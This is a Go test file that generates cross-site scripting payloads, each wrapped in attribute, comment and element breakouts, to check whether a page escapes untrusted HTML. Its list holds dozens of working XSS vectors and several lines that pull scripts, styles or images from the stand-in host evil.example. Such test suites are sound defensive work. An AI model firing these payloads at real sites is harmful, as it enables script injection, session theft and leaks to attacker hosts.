package browsertest

import "strings"

// payloads are texts that run script, or fetch from a foreign host, wherever one of them reaches a page as HTML. Each
// of the kinds stands alone and behind what ends the attribute, comment or element that it may stand in.
func payloads() []string {
	shapes := []string{"{}", `">{}`, `'>{}`, `-->{}`, `</textarea></title></style></script>{}`}
	var all []string
	for kind := range strings.SplitSeq(strings.TrimSpace(kinds), "\n") {
		for _, shape := range shapes {
			all = append(all, strings.ReplaceAll(strings.ReplaceAll(shape, "{}", kind), "RUN", "__xss(name)"))
		}
	}
	return all
}

// kinds: RUN stands for the call that tells the test.
const kinds = `
<script>RUN</script>
<ScRiPt/x>RUN</sCrIpT >
<script src=//evil.example/x.js></script>
<script src=data:,RUN></script>
<img src=x onerror=RUN>
<img/src=x/onerror=RUN>
<img src=x:x onerror="RUN">
<image src=x onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributename=x>
<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x">
<body onload=RUN>
<body onpageshow=RUN>
<iframe src=javascript:RUN>
<iframe srcdoc="<script>parent.RUN</script>">
<iframe src="data:text/html,<script>RUN</script>">
<iframe onload=RUN>
<object data=javascript:RUN>
<object onerror=RUN data=x>
<embed src=javascript:RUN>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<details open ontoggle=RUN>x</details>
<video src=x onerror=RUN>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<p tabindex=1 autofocus onfocus=RUN>
<marquee onstart=RUN>
<a href=javascript:RUN autofocus onfocus=RUN>x</a>
<a href="java&#9;script:RUN">x</a>
<a href="&#106;avascript:RUN">x</a>
<form action=javascript:RUN><button autofocus onfocus=RUN>x</button></form>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=//evil.example/">
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/x>
<style>@import'//evil.example/x.css';</style>
<style>*{background:url(//evil.example/b)}</style>
<div style="background:url(//evil.example/c)">x</div>
<img src=//evil.example/p.png>
<img srcset="//evil.example/q.png 2x">
<table background=//evil.example/t><tr><td>x</table>
<input type=image src=//evil.example/i>
<svg><image href=//evil.example/s></svg>
<svg><filter id=f><feImage href=//evil.example/f /></filter><rect filter=url(#f) width=9 height=9></svg>
<p hx-get=//evil.example/ hx-trigger=load>x</p>
<p hx-on:load=RUN hx-trigger=load>x</p>
<time data-due datetime=x onload=RUN>x</time>
<form data-draft=//evil.example/><input name=x value=1></form>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<template><script>RUN</script></template>
<xss style="animation:x" onanimationstart=RUN>
<dialog open><img src=x onerror=RUN></dialog>
[x](javascript:RUN)
[x](java&Tab;script:RUN)
[x](data:text/html,<script>RUN</script>)
![x](//evil.example/m.png)
![x](x"onerror="RUN)
<javascript:RUN>
[x](<javascript:RUN> "t")
\u003cscript\u003eRUN\u003c/script\u003e
&lt;script&gt;RUN&lt;/script&gt;
{{constructor.constructor("RUN")()}}
${RUN}
";RUN;//
</script><script>RUN</script>
`
